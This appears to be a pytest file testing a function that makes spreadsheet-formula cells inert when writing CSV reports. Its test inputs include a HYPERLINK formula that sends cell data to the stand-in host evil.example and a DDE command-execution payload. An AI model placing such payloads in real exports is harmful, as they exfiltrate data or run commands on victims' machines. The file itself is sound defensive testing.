"""FOCUS text cells a spreadsheet could run as formulas are made inert (OWASP's CSV advice)."""

from __future__ import annotations

import pytest

from gate.reporters.focus import inert_cell


@pytest.mark.parametrize(
    "text",
    ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-1+2"],
)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(text):
    assert inert_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["train-lr-0.01", "A100-80GB/spot", '{"team": "nlp"}', ""])
def test_plain_text_is_left_as_written(text):
    assert inert_cell(text) == text


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        (" =1+2", "' =1+2"),  # spaces before the formula
        ("\n=1+2", "\\n=1+2"),  # a line break is written as its escape, no line of its own
        ("\u202eevil\x00\x1b[31m", "\\u202eevil\\x00\\x1b[31m"),  # NUL, escape, direction
        ("\t=1", "\\t=1"),
    ],
)
def test_control_characters_are_escapes_and_spaces_hide_no_formula(text, cell):
    assert inert_cell(text) == cell
